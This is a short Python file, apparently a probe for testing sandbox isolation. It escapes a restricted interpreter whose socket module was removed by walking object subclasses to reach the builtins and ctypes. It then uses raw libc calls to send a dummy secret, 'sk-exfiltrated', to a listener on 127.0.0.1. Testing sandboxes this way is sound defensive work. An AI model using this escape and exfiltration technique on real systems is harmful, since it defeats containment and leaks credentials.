"""Send data to a listener on 127.0.0.1 with raw libc sockets (the socket module is gone)."""


class Network:
    name = "network_exfiltrate"

    def libc(self):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                sys = cls.__init__.__globals__["__builtins__"]["__import__"]("sys")
                for module in list(sys.modules.values()):
                    ctypes = module.__dict__.get("ctypes")
                    if ctypes is not None and hasattr(ctypes, "CDLL"):
                        return ctypes, ctypes.CDLL(None, use_errno=True)

    def plan(self, ctx):
        ctypes, libc = self.libc()
        results = []
        for kind in (1, 2):  # TCP, then UDP
            fd = libc.socket(2, kind, 0)
            address = ctypes.create_string_buffer(bytes([2, 0, 0xBA, 0xC5, 127, 0, 0, 1]) + bytes(8), 16)  # port 47813
            connected = libc.connect(fd, address, 16) if fd >= 0 else -1
            sent = libc.send(fd, b"sk-exfiltrated", 14, 0) if connected == 0 else -1
            results.append(f"{fd}/{connected}/{sent}/{ctypes.get_errno()}")
        return {"guidance": " ".join(results)}
